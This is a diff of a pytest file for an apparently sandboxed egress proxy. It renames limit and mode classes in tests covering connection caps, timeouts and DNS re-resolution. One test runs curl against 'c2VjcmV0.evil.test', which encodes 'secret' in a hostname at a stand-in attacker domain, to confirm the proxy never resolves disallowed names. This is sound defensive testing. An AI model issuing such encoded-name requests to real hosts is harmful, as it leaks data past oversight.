@@ -1,4 +1,4 @@
-"""Limits of the door: connections, bytes, time; and names that change their mind."""
+"""Limits of the proxy: connections, bytes, time; and names that change their mind."""
 
 from __future__ import annotations
 
@@ -11,10 +11,10 @@ from pathlib import Path
 
 import pytest
 
-from cubicle.core.network import Mode
+from cubicle.core.network import NetworkMode
 from cubicle.egress.blocked_networks import Address
 from cubicle.egress.policy import Policy, Rule
-from cubicle.egress.upstream_connections import Limits
+from cubicle.egress.upstream_connections import EgressLimits
 from tests.egress.conftest import OPEN, Audit, Behind, shell
 from tests.egress.servers import Server, http_server
 
@@ -45,7 +45,7 @@ async def until(condition: object, seconds: float = 60.0) -> None:
 async def test_a_chat_has_so_many_connections_at_once(
     behind: Behind, silent: int, server: Server, audit: Audit, way: str
 ) -> None:
-    async with behind(replace(OPEN, most_connections=3), limits=Limits(silent=0.3)) as machine:
+    async with behind(replace(OPEN, most_connections=3), limits=EgressLimits(silent=0.3)) as machine:
         hold = f"way={way}; for i in 1 2 3; do curl -sS $way --max-time 60 http://quiet.test:{silent}/ & done; wait"
         async with machine.run(hold) as process:
             await until(lambda: len(audit.of("allowed")) == 3)
@@ -71,7 +71,7 @@ async def test_a_chat_has_so_many_bytes_a_day(behind: Behind, server: Server, au
 @pytest.mark.parametrize("way", ["-p", "", "--socks5-hostname $DOOR"])
 async def test_a_connection_in_which_nothing_moves_is_cut(behind: Behind, silent: int, audit: Audit, way: str) -> None:
     for idle in (0.4, 4.0, 40.0):  # a busy machine may take longer than that to come as far as the server
-        async with behind(limits=Limits(idle=idle)) as machine:
+        async with behind(limits=EgressLimits(idle=idle)) as machine:
             await shell(machine, f"curl -sS {way} --max-time 100 http://quiet.test:{silent}/")
         if audit.of("closed"):
             break
@@ -86,7 +86,7 @@ sock = socket.create_connection(("127.0.0.1", int(os.environ["http_proxy"].rpart
 sock.settimeout(60)
 print("end", sock.recv(1))
 """
-    async with behind(limits=Limits(idle=0.3)) as machine:
+    async with behind(limits=EgressLimits(idle=0.3)) as machine:
         _, output = await machine.output(["python3", "-c", program], timeout=100)
     assert output == b"end b''\n"
 
@@ -100,7 +100,7 @@ async def test_a_server_that_does_not_answer_is_given_up(behind: Behind, audit: 
         for sock in waiting:
             sock.setblocking(False)
             sock.connect_ex(("127.0.0.1", port))
-        async with behind(limits=Limits(connect=0.5)) as machine:
+        async with behind(limits=EgressLimits(connect=0.5)) as machine:
             output = await shell(machine, f"curl -sS -i --max-time 60 http://slow.test:{port}/")
         for sock in waiting:
             sock.close()
@@ -121,7 +121,7 @@ class Fickle:
         return [ip_address(text) for text in self.answers.pop(0)]
 
 
-TWO = Policy(Mode.OPEN, (Rule("two", networks=(ip_network("127.0.0.2/32"),)),))
+TWO = Policy(NetworkMode.OPEN, (Rule("two", networks=(ip_network("127.0.0.2/32"),)),))
 
 
 async def test_a_name_is_looked_up_once_and_what_was_judged_is_dialled(
@@ -141,7 +141,7 @@ async def test_a_name_is_looked_up_once_and_what_was_judged_is_dialled(
 
 async def test_a_name_that_nothing_allows_is_never_looked_up(behind: Behind, audit: Audit) -> None:
     names = Fickle()
-    policy = Policy(Mode.ALLOWLIST, (Rule("a", hosts=("*.good.test",)), *TWO.rules))
+    policy = Policy(NetworkMode.ALLOWLIST, (Rule("a", hosts=("*.good.test",)), *TWO.rules))
     async with behind(policy, resolve=names) as machine:
         for way in ("", "-p", "--socks5-hostname $DOOR"):
             await shell(machine, f"curl -sS {way} http://c2VjcmV0.evil.test/")
